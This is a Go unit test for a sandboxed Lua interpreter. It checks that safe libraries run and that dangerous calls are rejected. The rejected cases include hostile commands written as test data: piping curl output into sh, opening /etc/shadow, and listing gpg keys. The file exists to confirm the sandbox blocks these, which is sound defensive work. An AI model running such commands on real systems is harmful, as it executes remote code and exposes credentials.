package config

import (
	"strings"
	"testing"
)

func TestSandboxLuaVM(t *testing.T) {
	tests := []struct {
		name    string
		code    string
		wantErr bool
	}{
		{name: "string library", code: `x = string.upper("release")`},
		{name: "table library", code: `t = {1, 2}; table.insert(t, 3)`},
		{name: "math library", code: `x = math.floor(5.9)`},
		{name: "basic functions", code: `x = type("a"); y = tostring(1); z = tonumber("2")`},
		{name: "pairs", code: `for k, v in pairs({a = 1}) do end`},

		{name: "os.execute blocked", code: `os.execute("curl https://example.org | sh")`, wantErr: true},
		{name: "os.getenv blocked", code: `x = os.getenv("HOME")`, wantErr: true},
		{name: "io.open blocked", code: `f = io.open("/etc/shadow")`, wantErr: true},
		{name: "io.popen blocked", code: `f = io.popen("gpg --list-keys")`, wantErr: true},
		{name: "require blocked", code: `require("socket")`, wantErr: true},
		{name: "dofile blocked", code: `dofile("/tmp/evil.lua")`, wantErr: true},
		{name: "loadfile blocked", code: `loadfile("/tmp/evil.lua")`, wantErr: true},
		{name: "loadstring blocked", code: `loadstring("return 1")()`, wantErr: true},
		{name: "load blocked", code: `load(function() return nil end)`, wantErr: true},
		{name: "debug blocked", code: `debug.getregistry()`, wantErr: true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			L := newSandboxedVM()
			defer L.Close()

			err := L.DoString(tt.code)
			if (err != nil) != tt.wantErr {
				t.Errorf("DoString(%q) error = %v, wantErr %v", tt.code, err, tt.wantErr)
			}
		})
	}
}

func TestSandboxLuaVM_CallStackLimit(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	err := L.DoString(`local function f(n) return 1 + f(n + 1) end; f(1)`)
	if err == nil {
		t.Fatal("expected unbounded recursion to fail")
	}
	if !strings.Contains(err.Error(), "stack overflow") {
		t.Errorf("expected stack overflow, got %v", err)
	}
}
